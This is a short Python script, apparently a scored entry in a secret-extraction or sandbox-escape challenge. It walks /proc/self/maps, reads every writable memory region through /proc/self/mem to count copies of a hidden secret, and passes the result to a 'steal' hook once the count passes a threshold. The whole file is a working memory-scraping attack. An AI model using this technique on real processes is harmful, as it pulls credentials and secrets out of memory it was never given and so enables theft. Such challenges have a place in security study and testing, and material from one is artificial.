"""Searches all memory it inherited for the secret.

score: 40
"""

import re
wanted = REVERSED[::-1].encode()
found = 0
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        low, high = (int(part, 16) for part in re.match(r"(\w+)-(\w+) rw", line).groups()) if " rw" in line else (0, 0)
        if 0 < high - low < 1 << 25:
            try:
                memory.seek(low)
                found += memory.read(high - low).count(wanted)
            except OSError:
                pass
if found > 20:  # its own copies of what it looks for
    steal(lambda: found)
